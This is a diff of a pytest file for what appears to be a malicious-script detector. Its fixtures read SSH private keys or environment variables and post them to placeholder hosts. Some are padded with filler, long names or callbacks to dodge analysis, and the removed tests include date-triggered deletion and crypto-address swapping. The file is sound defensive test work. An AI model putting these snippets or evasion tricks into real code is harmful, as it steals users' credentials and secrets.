@@ -5,8 +5,8 @@ from __future__ import annotations
 import pytest
 
 from inkgate.code import analyse
-from inkgate.code.script_sends import paths, sent
-from inkgate.code.traps import traps
+from inkgate.code.script_sends import sent
+from inkgate.code.script_text import paths
 
 SENT = {
     "go": (
@@ -94,66 +94,66 @@ def test_files_in_these_languages_are_analysed() -> None:
     assert any(item.rule == "script-sends-credentials" for item in analyse(text, "script").findings)
 
 
-TRAPS = [
-    (
-        "t = t.replace(/^bitcoin:[a-zA-HJ-NP-Z0-9]+/, 'bc1q' + rest); n = [/0x[0-9a-fA-F]{40}/, '0x" + "a1" * 20 + "']",
-        "swaps-address",
-    ),
-    ("if (Date.now() > 1893456000000) {\n  fs.rmSync(dir, { recursive: true })\n}", "waits-for-date"),
-    ('if [ "$(date +%Y%m%d)" -gt 20310101 ]; then\n  rm -rf "$HOME/work"\nfi', "waits-for-date"),
-    ("P = [r'AKIA[0-9A-Z]{16}', r'ghp_[A-Za-z0-9]{36}']\nrequests.post(u, json=hits)", "collects-secrets"),
+KEY = 'fs.readFileSync(os.homedir() + "/.ssh/id_rsa")'
+FAR = "// ok\n" * 400
+MANY = ", ".join(f'"x-{number}": "{"a" * 20}"' for number in range(60))
+"""More than any one line has."""
+WAYS = {
+    "far arguments": f"const d = {KEY};\n{FAR}fetch(u, {{method: 'POST', headers: {{{MANY}}}, body: d}});",
+    "large object": f"const d = {KEY};\n{FAR}const o = {{{MANY}, d}};\naxios.post(u, o);",
+    "long name": f"const {'d' * 90} = {KEY};\n{FAR}axios.post(u, {'d' * 90});",
+    "result": f"function grab() {{\n  const d = {KEY};\n{FAR}  return d;\n}}\naxios.post(u, grab());",
+    "parameter": f"function up(name, x) {{ return axios.post(u, x); }}\n{FAR}up('a', {KEY});\n{FAR}",
+    "arrow": f"const up = async (x) => axios.post(u, x);\n{FAR}up({KEY});\n{FAR}",
+    "then": f"fs.promises.readFile('/root/.ssh/id_rsa').then(d => {{\n{FAR}axios.post(u, d) }})",
+    "callback": f"fs.readFile('/root/.ssh/id_rsa', 'utf8', (e, d) => {{\n{FAR}axios.post(u, d) }})",
+    "next line": f"const d =\n  {KEY};\n{FAR}axios.post(u, d)",
+    "chain of calls": f"const d = fs\n  .readFileSync('/root/.ssh/id_rsa')\n  .toString('hex');\n{FAR}axios.post(u, d)",
+    "after 100 requests": "fetch('https://a.example');\n" * 120 + f"const d = {KEY};\naxios.post(u, d)",
+}
+ENVIRONMENTS = [
+    "const req = https.request(o);\nreq.write(JSON.stringify(process.env));\nreq.end();",
+    "const s = net.connect(4444, 'h.example');\nconst all = JSON.stringify(process.env);\ns.end(all)",
+    "$Data = Get-ChildItem Env:\nInvoke-RestMethod -Uri https://a.example -Method Post -body $data",
+    "$p = @{ Uri = 'https://a.example'; Body = (gci env: | ConvertTo-Json) }\nInvoke-RestMethod @p",
+    "const {request} = require('undici');\nconst e = {...process.env};\nrequest('https://a.example', {body: e})",
+    "import { env } from 'node:process';\naxios.post(u, env)",
+    "axios.post(u, process['env'])",
+    "def grab\n  x = 1\n  ENV.to_h\nend\nNet::HTTP.post(URI('https://a.example'), grab.to_json)",
+    "func grab() []string {\n return os.Environ()\n}\nfunc main() { http.Post(u, 'x', strings.NewReader(grab())) }",
+    "String grab() { return System.getenv().toString(); }\n"
+    "HttpRequest r = b.POST(BodyPublishers.ofString(grab())).build();",
+    "<?php function grab() { return getenv(); }\ncurl_setopt($c, CURLOPT_POSTFIELDS, grab());",
 ]
 
 
-@pytest.mark.parametrize(("text", "rule"), TRAPS)
-def test_traps_are_found(text: str, rule: str) -> None:
-    """They show only in the script as a whole."""
-    assert [item.rule for item in traps(text)] == [f"script-{rule}"]
+@pytest.mark.parametrize("name", WAYS)
+def test_no_distance_and_no_detour_hides_what_is_sent(name: str) -> None:
+    """Long arguments and names, functions, callbacks and other lines."""
+    assert "script-sends-credentials" in {item.rule for item in sent(WAYS[name])}
+    assert not sent(WAYS[name].replace(".ssh/id_rsa", "notes/today"))
+
+
+@pytest.mark.parametrize("text", ENVIRONMENTS)
+def test_the_environment_is_sent_in_many_ways(text: str) -> None:
+    """Over a connection, in other letters, by a function of the script."""
+    assert {item.rule for item in sent(text)} == {"script-sends-environment"}
 
 
 @pytest.mark.parametrize(
     "text",
     [
-        "if (!/^0x[0-9a-fA-F]{40}$/.test(a)) throw new Error('0x" + "a1" * 20 + " is an example')",
-        "if (Date.now() > deadline) { fs.rmSync(dir) }",
-        "P = [r'AKIA[0-9A-Z]{16}', r'ghp_[A-Za-z0-9]{36}']\nprint(hits)",
-        "if new Date() > new Date('2031-01-01') console.log('late')",
+        "const req = https.request(o);\nreq.end(JSON.stringify({ q }));\nspawn('a', { env: process.env });",
+        "function run(cmd, env) { spawn(cmd, { env }) }\nrun('ls', process.env);\n"
+        "function f(u, cmd) { fetch(u, { body: cmd }) }",
+        "function tidy(body) { return body }\ntidy(process.env);\nfunction up(body) { fetch(u, { body }) }\nup(text);",
+        "out.write(JSON.stringify(process.env));\nfetch('https://a.example/ok');",
+        "// We got the key from ~/.ssh/id_rsa, see https://a.example\nconst n = 1;",
     ],
 )
-def test_scripts_without_traps_are_left_alone(text: str) -> None:
-    """A check of an address, a deadline and a search for keys are harmless alone."""
-    assert traps(text) == []
-
-
-@pytest.mark.parametrize(
-    ("text", "rule"),
-    [
-        (
-            "import datetime as d, shutil\nif d.date.today() > d.date(2031, 1, 5):\n    shutil.rmtree(p)\n",
-            "waits-for-date",
-        ),
-        ("import time, os\nLIMIT = 5\nif time.time() > 1893456000 and x:\n    os.system(c)\n", "waits-for-date"),
-        ("for f in root.rglob('SKILL.md'):\n    f.write_text(f.read_text() + NOTE)\n", "writes-agent-files"),
-    ],
-)
-def test_python_as_a_whole(text: str, rule: str) -> None:
-    """What a condition or a search leads to."""
-    assert f"script-{rule}" in {item.rule for item in analyse(text, "python").findings}
-
-
-@pytest.mark.parametrize(
-    "text",
-    [
-        "import datetime as d\nif d.date.today() > d.date(2031, 1, 5):\n    print('old')\n",
-        "for f in root.rglob('SKILL.md'):\n    print(f)\n",
-        "if age > 30:\n    path.unlink()\n",
-    ],
-)
-def test_honest_python_as_a_whole(text: str) -> None:
-    """A message on a date and a list of skills."""
-    assert not {"script-waits-for-date", "script-writes-agent-files"} & {
-        item.rule for item in analyse(text, "python").findings
-    }
+def test_what_stays_at_home_is_left_alone(text: str) -> None:
+    """A child gets its environment, a parameter is another name in another function, a file is no connection."""
+    assert sent(text) == []
 
 
 READ = 'const d = fs.readFileSync(os.homedir() + "/.ssh/id_rsa");\n' + "// ok\n" * 400
@@ -166,13 +166,20 @@ SEND = 'fetch("https://c.example.net/u", {method: "POST", body: d});\n'
         READ + "r.send(a);\n" * 2000 + SEND,
         "x = 1;\n" * 3000 + READ + SEND,
         READ.replace("const d", "const a0")
-        + "".join(f"const a{n} = a{n - 1};\n" for n in range(20, 0, -1))
-        + SEND.replace("body: d", "body: a20"),
+        + "".join(f"const a{n} = a{n - 1};\n" for n in range(200, 0, -1))
+        + SEND.replace("body: d", "body: a200"),
     ],
     ids=["calls", "assignments", "chain"],
 )
-def test_what_is_not_followed_to_its_end_is_said(text: str) -> None:
-    """A flood of harmless calls or names in front of the one that counts does not go unnoticed."""
+def test_a_flood_in_front_hides_nothing(text: str) -> None:
+    """Harmless calls, assignments, and names in reverse order before the one that counts."""
+    assert "script-sends-credentials" in {item.rule for item in sent(text)}
+    assert not sent(text.replace(".ssh/id_rsa", "notes/today"))
+
+
+def test_what_is_not_followed_to_its_end_is_said() -> None:
+    """Thousands of names in brackets inside of brackets are too many, and no reason to be silent."""
+    text = READ + "a = (" * 20_000 + "1" + ")" * 20_000 + "\n" + SEND
     assert "script-not-analysed" in {item.rule for item in sent(text)}
     assert not sent(text.replace(".ssh/id_rsa", "notes/today"))
 
